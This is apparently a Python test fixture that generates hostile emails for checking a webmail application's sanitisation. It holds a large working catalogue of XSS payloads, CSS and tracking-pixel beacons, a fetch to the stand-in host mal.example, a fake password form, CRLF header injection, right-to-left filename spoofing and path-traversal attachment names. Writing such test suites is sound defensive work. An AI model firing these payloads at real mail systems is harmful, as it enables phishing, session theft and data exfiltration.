"""Mail whose every part tries to run, load, lead away or lie (S1): made here, one by one, each with its name.

What runs calls `alert`, which a browser tells; what loads or leads away asks for mal.example, which nobody serves.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from email.header import Header
from quopri import encodestring
from urllib.parse import quote

FOREIGN = "mal.example"
RUN = f"alert(1);fetch('https://{FOREIGN}/couru')"
_URL = f"https://{FOREIGN}"
_IMG = "<img src=x onerror=alert(1)>"
_SCRIPT = f"<script>{RUN}</script>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
_IN_64 = base64.b64encode(_SCRIPT.encode()).decode()
_SVG_64 = base64.b64encode(_SVG.encode()).decode()
_IMG_ENTITIES = "".join(f"&#{ord(one)};" for one in "javascript:alert(1)")

HTML: dict[str, str] = {
    # Scripts
    "script": _SCRIPT,
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script from elsewhere": f"<script src={_URL}/x.js></script>",
    "script as a module": f"<script type=module>import '{_URL}/m.js'</script>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script without an end": f"<script>{RUN}//",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script after NUL": f"<scr\0ipt>{RUN}</script>",
    "script in a comment": f"<!--[if gte IE 4]>{_SCRIPT}<![endif]-->",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a comment that ends oddly": f"<!-- --!>{_IMG}<!-- -->",
    "an end of the page": f"</body></html>{_SCRIPT}",
    "an end of a text": f"</textarea></title></style></pre></blockquote></article>{_IMG}",
    "CDATA": f"<![CDATA[{_SCRIPT}]]>",
    "a template": f"<template>{_SCRIPT}</template>",
    "a template with a shadow": f"<div><template shadowrootmode=open>{_IMG}</template></div>",
    "noscript": f'<noscript><p title="</noscript>{_IMG}">',
    "xmp": f"<xmp></xmp>{_IMG}",
    "plaintext": f"<plaintext>{_SCRIPT}",
    "an XML declaration": f'<?xml version="1.0"?><?xml-stylesheet href="{_URL}/x.xsl"?>{_IMG}',
    # What happens
    **{
        f"on{event} of {tag}": f'<{tag} on{event}="{RUN}" {more}>Bonjour</{tag}>'
        for tag, event, more in (
            ("img", "error", "src=x"),
            ("body", "load", ""),
            ("body", "pageshow", ""),
            ("svg", "load", ""),
            ("input", "focus", "autofocus"),
            ("select", "focus", "autofocus"),
            ("textarea", "focus", "autofocus"),
            ("details", "toggle", "open"),
            ("video", "error", "src=x"),
            ("audio", "error", "src=x"),
            ("marquee", "start", ""),
            ("object", "error", "data=x"),
            ("iframe", "load", ""),
            ("link", "error", "rel=stylesheet href=x"),
            ("style", "load", ""),
            ("p", "pointerover", "style='position:fixed;inset:0'"),
            ("p", "focus", "tabindex=1 autofocus"),
            ("div", "animationstart", "style='animation:x 1s'"),
            ("div", "beforematch", "hidden=until-found"),
        )
    },
    "an attribute with a slash": "<img/src=x/onerror=alert(1)>",
    "an attribute after a quote": '<img src="x""onerror=alert(1)>',
    "an attribute with a tab": "<img src=x onerror\t=\talert(1)>",
    "an attribute in backquotes": "<img src=`x` onerror=`alert(1)`>",
    "an attribute out of a title": "<p title='\"><img src=x onerror=alert(1)>'>Oui</p>",
    "an attribute without an end": "<img src=x onerror=alert(1)//",
    "an alternative that breaks out": '<img alt="x\\" onerror="alert(1)" src=x>',
    # Addresses that run
    "javascript: in a link": f'<a href="javascript:{RUN}" autofocus>Ici</a>',
    "javascript: in capitals": '<a href="JaVaScRiPt:alert(1)">Ici</a>',
    "javascript: in entities": f'<a href="{_IMG_ENTITIES}">Ici</a>',
    "javascript: with a tab": '<a href="java\tscript:alert(1)">Ici</a>',
    "javascript: with a newline": '<a href="java&#10;script:alert(1)">Ici</a>',
    "javascript: after a control": '<a href="&#1;javascript:alert(1)">Ici</a>',
    "javascript: in an image": '<img src="javascript:alert(1)">',
    "javascript: in a frame": '<iframe src="javascript:alert(1)"></iframe>',
    "javascript: in a form": '<form action="javascript:alert(1)"><button autofocus>Oui</button></form>',
    "javascript: in a button": '<form><button formaction="javascript:alert(1)">Oui</button></form>',
    "javascript: in a map": '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x>',
    "vbscript:": '<a href="vbscript:msgbox(1)">Ici</a>',
    "data: page in a link": f'<a href="data:text/html;base64,{_IN_64}">Ici</a>',
    "data: page in a frame": f'<iframe src="data:text/html;base64,{_IN_64}"></iframe>',
    "data: page in an object": f'<object data="data:text/html;base64,{_IN_64}"></object>',
    "data: page in an embed": f'<embed src="data:text/html;base64,{_IN_64}">',
    "data: drawing": f'<img src="data:image/svg+xml;base64,{_SVG_64}">',
    "data: page as an image": f'<img src="data:text/html;base64,{_IN_64}">',
    "data: image that breaks out": '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
    "blob:": '<img src="blob:https://mal.example/x">',
    # What loads
    "an image from elsewhere": f"<img src={_URL}/suivi.gif width=1 height=1>",
    "an image without a scheme": f"<img src=//{FOREIGN}/suivi.gif>",
    "an image with backslashes": f"<img src=\\\\{FOREIGN}\\suivi.gif>",
    "an image of several sizes": f'<img srcset="{_URL}/a 1x, {_URL}/b 2x">',
    "a picture": f'<picture><source srcset="{_URL}/a"><img src={_URL}/b></picture>',
    "an image of ours": "<img src=/deconnexion><img src=/static/pli.css>",
    "an input that is an image": f"<input type=image src={_URL}/x>",
    "a background": f"<body background={_URL}/x><table background={_URL}/y><tr><td background={_URL}/z>x</table>",
    "a video": f"<video src={_URL}/v poster={_URL}/p autoplay></video><audio src={_URL}/a autoplay></audio>",
    "a track": f"<video><track default src={_URL}/t><source src={_URL}/v></video>",
    "an object": f"<object data={_URL}/o><param name=movie value={_URL}/p></object>",
    "an embed": f"<embed src={_URL}/e type=application/x-shockwave-flash>",
    "an applet": f"<applet code=X archive={_URL}/a.jar></applet>",
    "a frame": f"<iframe src={_URL}/f></iframe>",
    "a frame of ours": "<iframe src=/reponses></iframe><iframe src=/deconnexion></iframe>",
    "a frameset": f"<frameset><frame src={_URL}/f></frameset>",
    "a portal": f"<portal src={_URL}/f></portal><fencedframe></fencedframe>",
    "srcdoc": f"<iframe srcdoc='{_SCRIPT.replace(chr(39), '&#39;')}'></iframe>",
    "srcdoc in entities": "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "a style sheet": f"<link rel=stylesheet href={_URL}/x.css>",
    "a preload": f"<link rel=preload as=script href={_URL}/x.js><link rel=dns-prefetch href=//{FOREIGN}>",
    "a prefetch": f"<link rel=prefetch href={_URL}/x><link rel=prerender href={_URL}/y><link rel=preconnect href={_URL}>",
    "an icon": f"<link rel=icon href={_URL}/x.ico><link rel=manifest href={_URL}/m.json>",
    "a base": f"<base href={_URL}/><img src=x>",
    "a ping": f"<a href=/x ping={_URL}/p>Ici</a>",
    "rules of speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_URL}/s"]}}]}}</script>',
    # Styles
    "an imported style": f"<style>@import url({_URL}/x.css);</style>",
    "a font": f"<style>@font-face{{font-family:x;src:url({_URL}/f)}}body{{font-family:x}}</style>",
    "a background of a style": f"<style>body{{background:url({_URL}/b)}}</style>",
    "a background of an element": f"<p style='background:url({_URL}/b)'>Oui</p>",
    "a style in escapes": f"<p style='b\\61 ckground:u\\72l({_URL}/b)'>Oui</p>",
    "image-set": f"<p style='background:image-set(\"{_URL}/b\" 1x)'>Oui</p>",
    "a list's image": f"<ul style='list-style-image:url({_URL}/l)'><li>Oui</ul>",
    "a cursor": f"<p style='cursor:url({_URL}/c),auto;content:url({_URL}/d)'>Oui</p>",
    "an expression": "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>Oui</p>",
    "a cover over the page": "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Votre session a expiré</p>",
    "a selector that spies": f"<style>input[value^=a]{{background:url({_URL}/a)}}</style>",
    "a style that ends early": f"<style></style>{_IMG}<style>",
    # Leading away
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_URL}/">',
    "meta refresh that runs": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta refresh to ours": '<meta http-equiv=refresh content="0;url=/deconnexion">',
    "a meta that sets a policy": '<meta http-equiv=Content-Security-Policy content="script-src *">' + _SCRIPT,
    "a meta that sets a charset": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a form": f"<form action={_URL}/f method=post><input name=motdepasse autofocus><button>Se connecter</button></form>",
    "a form of ours": "<form action=/deconnexion method=post id=f><button form=f>Oui</button></form>",
    "a field of a form of ours": "</form><input name=decision value=question form=lot><button form=lot>Oui</button>",
    "a target": f"<a href={_URL} target=_top>Ici</a><a href={_URL} target=_blank rel=opener>Là</a>",
    "names that hide ours": "<form id=getElementById name=cookie></form><img name=body><a id=location></a>",
    "htmx of ours": "<div hx-get=/deconnexion hx-trigger=load hx-post=/deconnexion data-hx-get=/x>Oui</div>",
    # Other tongues
    "a drawing": _SVG,
    "a drawing that links": f'<svg><a xlink:href="javascript:alert(1)"><text y=20>Ici</text></a><image href={_URL}/i /></svg>',
    "a drawing that uses": f'<svg><use href="{_URL}/u.svg#x"/><use href="data:image/svg+xml;base64,{_SVG_64}#x"/></svg>',
    "a drawing that moves": "<svg><set attributeName=onload to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a drawing with HTML in it": f"<svg><foreignObject><body onload=alert(1)>{_IMG}</body></foreignObject></svg>",
    "a drawing with a style": f"<svg><style>@import '{_URL}/s.css'</style></svg>",
    "formulas": f'<math href="javascript:alert(1)"><mtext>x</mtext><maction xlink:href={_URL}>y</maction></math>',
    "formulas that change": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "formulas that change again": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a drawing that changes": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "a table that throws out": f"<table><a href='javascript:alert(1)'>{_IMG}<tr><td>x</table>",
    "what a template would read": "{{7*7}}{% for x in y %}{prénom}{{ ''.__class__ }}${alert(1)}<%= 1 %>",
    # Looks
    "words that turn round": "\u202egpj.exe\u202c \u2066\u2067\u2068 Bonjour \u200b\u200d\ufeff",
    "letters piled up": "a" + "\u0300" * 300 + " fin",
    "a word without an end": "W" * 20_000,
    "tags without an end": "<div><b><i>" * 400,
}
_NAMES: dict[str, str] = {
    "a script": _SCRIPT,
    "an attribute": '"><img src=x onerror=alert(1)>',
    "an attribute in single quotes": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "an address of ours": "vie@passerelles.example",
    "a new line": "Camille\r\nBcc: autre@mal.example\r\n\r\n<script>alert(1)</script>",
    "a new line of Unicode": "Camille\u2028Bcc: autre@mal.example\u2029\x85",
    "words that turn round": "Camille \u202eelpmaxe.lam@x\u202c",
    "a template": "{{7*7}} {prénom} {% raw %}",
    "no end": "N" * 3000,
}


def mails(to: str, sender: str) -> Iterator[tuple[str, bytes]]:
    """Give the hostile mails, each with its name, as if `sender` had written them to `to`."""
    for name, html in HTML.items():
        yield name, _mail(to, sender, "text/html", html, Subject=f"Re: {len(name)}")
    for name, text in (
        ("script as text", _SCRIPT),
        ("image as text", _IMG),
        ("an end as text", f"</p></blockquote>{_IMG}"),
    ):
        yield (
            name,
            _mail(
                to, sender, "text/plain", f"Bonjour,\n{text}\n\n-- \n{text}\n\nLe 24 nov., vous avez écrit :\n> {text}"
            ),
        )
    for name, words in _NAMES.items():
        encoded = Header(words, "utf-8", maxlinelen=10_000).encode()
        said = {"From": f"{encoded} <{sender}>", "Subject": encoded}
        yield (
            f"names: {name}",
            _with_file(to, sender, f"filename*=utf-8''{quote(words)}", "application/pdf", b"%PDF-", **said),
        )
        yield (
            f"automatic names: {name}",
            _mail(to, sender, "text/plain", "Absent", **said, **{"Auto-Submitted": "auto-replied"}),
        )
    yield from _odd(to, sender)


def _odd(to: str, sender: str) -> Iterator[tuple[str, bytes]]:
    """What hides in the structure of a mail."""
    yield "UTF-7", _mail(to, sender, "text/html; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield "UTF-16", _raw(to, sender, "text/html; charset=utf-16", _SCRIPT.encode("utf-16"), "base64")
    yield "base64", _raw(to, sender, "text/html", _SCRIPT.encode(), "base64")
    yield "quoted-printable", _raw(to, sender, "text/html", encodestring(_SCRIPT.encode()), "quoted-printable")
    yield "a type with a script", _mail(to, sender, f'text/html; charset="{_SCRIPT}"', _SCRIPT)
    yield (
        "a page as its type",
        _mail(to, sender, "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'>{_SCRIPT}</html>"),
    )
    yield "a From of a stranger", _mail(to, '"<script>alert(1)</script>"@mal.example', "text/html", _SCRIPT)
    yield "a From without an address", _mail(to, "<script>alert(1)</script>", "text/html", _SCRIPT)
    yield "a From with markup", _mail(to, "<img/src=x/onerror=alert(1)>@mal.example", "text/html", _SCRIPT)
    yield (
        "an identity with markup",
        _mail(to, sender, "text/plain", "Oui", **{"Message-ID": '<"><img src=x onerror=alert(1)>@x>'}),
    )
    yield "a date with markup", _mail(to, sender, "text/plain", "Oui", Date=_IMG)
    yield "a recipient with markup", _mail(f'{to}, "{_IMG}" <a@mal.example>', sender, "text/plain", "Oui")
    for name, kind, content in (
        ("page.html", "text/html", _SCRIPT.encode()),
        ("dessin.svg", "image/svg+xml", _SVG.encode()),
        ("photo.png", "image/png", _SCRIPT.encode()),
        ("code.js", "application/javascript", RUN.encode()),
        ("lettre.eml", "message/rfc822", b"Subject: x\r\nContent-Type: text/html\r\n\r\n" + _SCRIPT.encode()),
        ("date.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nURL:javascript:alert(1)\r\nEND:VCALENDAR"),
        ("\u200b.htaccess", "text/plain", b"AddType text/html .pdf"),
        ("facture\u202efdp.exe", "application/pdf", b"MZ"),
        ("../../x.html", "application/octet-stream", _SCRIPT.encode()),
    ):
        yield (
            f"a file: {name.strip(chr(0x200B))}",
            _with_file(to, sender, f"filename*=utf-8''{quote(name)}", kind, content),
        )
    related = f"<img src=cid:a><iframe src=cid:b></iframe><img src='cid:c'>{_IMG}"
    yield (
        "what the letter carries",
        _related(
            to,
            sender,
            related,
            (
                ("a", "image/svg+xml", _SVG.encode()),
                ("b", "text/html", _SCRIPT.encode()),
                ("c", "image/png", _SVG.encode()),
            ),
        ),
    )


def _mail(to: str, sender: str, kind: str, text: str, **headers: str) -> bytes:
    typed = kind if ";" in kind else f"{kind}; charset=utf-8"
    # A server takes no NUL (RFC 3501): it comes in what is encoded.
    content = base64.b64encode(text.encode()) if "\0" in text else text.encode()
    return _raw(to, sender, typed, content, "base64" if "\0" in text else "8bit", encoded=True, **headers)


def _raw(
    to: str, sender: str, kind: str, content: bytes, encoding: str, *, encoded: bool = False, **headers: str
) -> bytes:
    lines = {"From": sender, "To": to, "Subject": "Re: bonjour", "Content-Type": kind, **headers}
    if encoding == "base64" and not encoded:
        content = base64.b64encode(content)
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    return f"{head}Content-Transfer-Encoding: {encoding}\r\n\r\n".encode() + content.replace(b"\n", b"\r\n") + b"\r\n"


def _with_file(to: str, sender: str, name: str, kind: str, content: bytes, **headers: str) -> bytes:
    file = (
        f"Content-Type: {kind}\r\nContent-Disposition: attachment; {name}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    parts = (
        b"Content-Type: text/plain\r\n\r\nVoir la piece jointe\r\n",
        file.encode() + base64.b64encode(content) + b"\r\n",
    )
    return _multipart(to, sender, "mixed", *parts, **headers)


def _related(to: str, sender: str, html: str, carried: tuple[tuple[str, str, bytes], ...]) -> bytes:
    parts = [f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n".encode()]
    parts += [
        f"Content-Type: {kind}\r\nContent-ID: <{name}>\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode()
        + base64.b64encode(content)
        + b"\r\n"
        for name, kind, content in carried
    ]
    return _multipart(to, sender, "related", *parts)


def _multipart(to: str, sender: str, subtype: str, *parts: bytes, **headers: str) -> bytes:
    kind = f"multipart/{subtype}; boundary=z"
    lines = {"From": sender, "To": to, "Subject": f"Re: {subtype}", "Content-Type": kind, **headers}
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items()) + "\r\n"
    return head.encode() + b"".join(b"--z\r\n" + part for part in parts) + b"--z--\r\n"


def reports(to: Callable[[int], str], recipient: Callable[[int], str]) -> Iterator[tuple[str, bytes]]:
    """Give hostile reports of mail systems, each with its name; the n-th is on the mail to `recipient(n)`, at `to(n)`."""
    fields = {
        "words of a server": {"Diagnostic-Code": f"smtp; 550 5.1.1 {_SCRIPT}"},
        "words with an image": {"Diagnostic-Code": f"smtp; 550 5.1.1 <{_IMG}>"},
        "words that break out": {"Diagnostic-Code": f"smtp; 550 5.1.1 \"'></code></p></textarea>{_IMG}"},
        "a code with markup": {"Status": f"5.1.1 {_IMG}"},
        "a relay with markup": {"Reporting-MTA": f"dns; {_SCRIPT}", "Remote-MTA": f"dns; {_IMG}"},
        "a recipient with markup": {"Final-Recipient": "rfc822; <img/src=x/onerror=alert(1)>@mal.example"},
        "an action with markup": {"Action": f"failed {_IMG}"},
        "an address with markup": {"Original-Recipient": 'rfc822; "<script>alert(1)</script>"@mal.example'},
        "a delay with markup": {"Action": "delayed", "Status": "4.4.1", "Diagnostic-Code": f"smtp; {_IMG}"},
        "an arrival with markup": {"Action": "delivered", "Status": "2.0.0", "Diagnostic-Code": f"smtp; {_IMG}"},
    }
    for place, (name, said) in enumerate(fields.items()):
        own = {"Final-Recipient": f"rfc822; {recipient(place)}", "Action": "failed", "Status": "5.1.1", **said}
        relay = {"Reporting-MTA": own.pop("Reporting-MTA", "dns; relais.example")}
        yield f"a report: {name}", _report(to(place), "delivery-status", _fields(relay) + "\r\n" + _fields(own))
    named = {
        "Feedback-Type": "abuse",
        "Original-Rcpt-To": "<img/src=x/onerror=alert(1)>@mal.example",
        "User-Agent": _IMG,
    }
    yield "a complaint", _report(to(len(fields)), "feedback-report", _fields(named))
    seen = {"Final-Recipient": f"rfc822; {_IMG}", "Disposition": f"manual-action/MDN-sent-manually; displayed{_IMG}"}
    yield "a read receipt", _report(to(len(fields) + 1), "disposition-notification", _fields(seen))
    invited = (
        f'BEGIN:VCALENDAR\r\nMETHOD:REPLY\r\nBEGIN:VEVENT\r\nUID:{_IMG}\r\nCOMMENT:{_SCRIPT}\r\nATTENDEE;CN="{_IMG}";'
    )
    invited += f"PARTSTAT=ACCEPTED:MAILTO:{recipient(len(fields) + 2)}\r\nEND:VEVENT\r\nEND:VCALENDAR"
    calendar = b"Content-Type: text/calendar; charset=utf-8; method=REPLY\r\n\r\n" + invited.encode() + b"\r\n"
    sender = recipient(len(fields) + 2)
    yield "an answer to an invitation", _multipart(to(len(fields) + 2), sender, "alternative", calendar, Subject=_IMG)


def denial(to: str, recipient: str) -> bytes:
    """Give the report of a server that knows nobody, in hostile words."""
    said = {"Final-Recipient": f"rfc822; {recipient}", "Action": "failed", "Status": "5.1.1"}
    said["Diagnostic-Code"] = f"smtp; 550 5.1.1 {_SCRIPT}"
    return _report(to, "delivery-status", "Reporting-MTA: dns; relais.example\r\n\r\n" + _fields(said))


def of_strangers(to: str) -> Iterator[tuple[str, bytes]]:
    """Give hostile mail that answers nothing of ours, each with its name: of it the names and the subject are kept."""
    for name, words in _NAMES.items():
        encoded = Header(words, "utf-8", maxlinelen=10_000).encode()
        said = {"From": f"{encoded} <{len(name)}@mal.example>", "Subject": encoded}
        yield f"a stranger: {name}", _mail(to, "", "text/html", _SCRIPT, **said)
    yield (
        "a stranger at markup",
        _mail(to, "<img/src=x/onerror=alert(1)>@mal.example", "text/plain", "Oui", Subject=_SCRIPT),
    )


def _report(to: str, kind: str, said: str) -> bytes:
    parts = (
        f"Content-Type: text/plain; charset=utf-8\r\n\r\n{_SCRIPT}\r\n".encode(),
        f"Content-Type: message/{kind}\r\n\r\n{said}".encode(),
        f"Content-Type: text/rfc822-headers\r\n\r\nSubject: {_IMG}\r\nMessage-ID: <{_IMG}>\r\n".encode(),
    )
    more = {"Subject": f"Report {_IMG}", "Auto-Submitted": "auto-replied"}
    raw = _multipart(to, f"MAILER-DAEMON@mal.example ({_IMG})", "report", *parts, **more)
    return raw.replace(b"multipart/report;", f"multipart/report; report-type={kind};".encode(), 1)


def _fields(said: dict[str, str]) -> str:
    return "".join(f"{name}: {value}\r\n" for name, value in said.items())
